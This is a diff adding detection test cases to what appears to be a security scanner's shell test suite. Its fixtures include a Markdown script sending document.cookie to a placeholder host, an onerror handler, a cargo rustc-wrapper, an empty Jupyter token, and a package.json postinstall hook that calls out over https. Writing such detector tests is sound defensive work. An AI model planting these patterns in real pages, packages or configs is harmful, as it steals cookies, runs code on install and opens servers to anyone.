@@ -201,4 +201,26 @@ printf 'import wandb\nwandb.login(key="%s%s")\n' "$digits" "$(printf %s "$digits
 hostile SECRET_TOKEN "a key in a call"
 printf 'wandb.login(key=os.environ["WANDB_API_KEY"])\nbot: 12345678:your_token\n{"auths": {}}\n' | file a.md
 quiet "what documentation says of them"
+# --- pages in Markdown
+printf '# m\n<img src=x onerror="fetch(1)">\n' | file README.md
+hostile PAGE_ACTIVE "a handler in Markdown"
+printf '# m\n<script>fetch("http://x/?c="+document.cookie)</script>\n' | file README.md
+hostile PAGE_ACTIVE "a script in Markdown"
+printf '# XSS\n\n```html\n<img src=x onerror="fetch(1)">\n```\nand `<img src=x onerror=fetch(1)>`\n\n<p align="center"><img src="a.png"></p>\n' | file README.md
+quiet "what is quoted"
+
+# --- what starts programs by its place, or lets anybody in
+printf '[build]\nrustc-wrapper = "./w"\n' | file .cargo/config.toml
+hostile PLACE_RUN "a program of cargo"
+printf '[build]\nrustc-wrapper = "sccache"\n[target.x]\nlinker = "clang"\n' | file .cargo/config.toml
+quiet "a compiler's cache"
+printf 'c.ServerApp.token = ""\n' | file jupyter_server_config.py
+run assay-inspect "$tmp/b"
+prints 'medium *SERVE_OPEN'
+printf 'c.ServerApp.port = 8888\n' | file jupyter_server_config.py
+quiet "a port"
+printf '{"scripts": {"postinstall": "node -e \\"require(\047https\047).get(\047http://x\047)\\""}}' | file package.json
+hostile COMMAND_DANGEROUS "program text for Node.js"
+printf '{"scripts": {"postinstall": "node scripts/copy.js", "v": "node -p process.version"}}' | file package.json
+quiet "a script of Node.js"
 done_testing
